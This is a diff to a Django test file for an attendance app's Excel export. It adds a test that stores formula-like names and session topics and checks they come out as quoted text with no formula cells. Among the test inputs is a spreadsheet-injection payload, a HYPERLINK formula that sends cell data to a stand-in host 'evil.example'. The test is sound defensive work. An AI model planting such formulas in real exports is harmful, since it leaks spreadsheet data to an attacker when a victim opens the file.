@@ -261,8 +261,37 @@ def test_excel_export_opens_with_chinese_headers_and_a_frozen_header(clients, us
     assert wb.worksheets[1]["B2"].value == "业务学习"
 
 
-def test_a_bad_year_in_the_report_is_not_found(clients):
-    assert clients["head"].get(url("attendance_report") + "?year=abc").status_code == 404
+@pytest.mark.parametrize(
+    "typed",
+    [
+        '=HYPERLINK("http://evil.example/?d="&A2,"点击")',
+        "+1+1",
+        "-2+3",
+        "@SUM(1,1)",
+        "\t=1+1",
+        "\r=1",
+    ],
+)
+def test_excel_export_writes_formula_like_text_as_text(clients, users, typed):
+    users["staff"].first_name = typed
+    users["staff"].save()
+    session = _past_session(users, 2, typed)
+    Attendance.objects.create(session=session, user=users["staff"], status="present")
+    response = clients["head"].get(url("attendance_export") + f"?year={session.date.year}")
+
+    wb = load_workbook(BytesIO(response.content))
+    people, sessions = wb.worksheets
+    name_cell = next(row[0] for row in people.iter_rows(min_row=2) if row[1].value == "staff1")
+    topic_cell = sessions["B2"]
+    for cell in (name_cell, topic_cell):
+        assert cell.data_type == "s"
+        # Django's get_full_name() strips the surrounding whitespace of the name.
+        assert cell.value.strip() == typed.strip()
+        assert cell.quotePrefix
+    formulas = [
+        c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"
+    ]
+    assert formulas == []
 
 
 def test_session_form_refuses_an_end_before_the_start(clients, users, plan):
